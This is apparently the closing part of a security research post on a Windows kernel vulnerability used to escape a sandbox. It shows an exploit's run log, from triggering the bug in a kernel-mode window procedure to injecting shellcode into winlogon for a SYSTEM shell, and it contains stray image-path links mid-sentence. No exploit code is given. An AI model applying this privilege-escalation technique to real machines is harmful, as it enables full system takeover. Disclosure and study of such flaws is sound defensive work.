[-] kernel proccalled from usermode. msg: 0x0024, wparam: 0x00000000, lparam: 0x001bf310
[-] kernel proc called from usermode. msg: 0x0081, wparam: 0x00000000, lparam: 0x001bf308
[-] kernel proc called from usermode. msg: 0x0083, wparam: 0x00000000, lparam: 0x001bf330
[-] kernel proc called from usermode. msg: 0x0001, wparam: 0x00000000, lparam: 0x001bf2fc
[-] kernel window created: 0002028A
[-] user32 is at 76F40000
[-] sharedinfo is at 76FA9440
[-] ahelist is at 003F0000
[-] index of for HANDLE 0002028a is 028a
[-] address of user object is FE230508
[-] resolved NtAllocateVirtualMemory at 0x776752D8
[-] trying to find suitable address for EPROCESS structure
[-] failed to allocate page at 0x200000. Trying next page
[-] failed to allocate page at 0x210000. Trying next page
[-] failed to allocate page at 0x220000. Trying next page
[+] successfully allocated page at 0x230000
[-] creating window thread
[-] sleeping for window thread to be created
[-] window thread started
[-] ansi class registered: 00001337
[-] ansi window created: 000702AA
[-] triggering the vulnerability multiple times
[-] triggering our nowkernel mode wndproc
[+] Success \o/ winlogon pid=1128
[-] handle to winlogon: 0x005c
[-] allocated executable page in winlogon @ 0x9f0000
[-] copying and executing shellcode
[+] enjoy your SYSTEM shell

We will release the full exploit code in a few weeks, until then we will leave it as an exercise to the interested reader to implement an exploit forthe vulnerability.


The kernel is one of the main weaknesses in modern sandbox implementations.Windows 8 and 8.1 have introduced additional features and protections which would prevent our exploit from working on these platforms. We are looking forward toPwn2Own 2014 to see how successful these protectionsare in preventing sandbox escapes.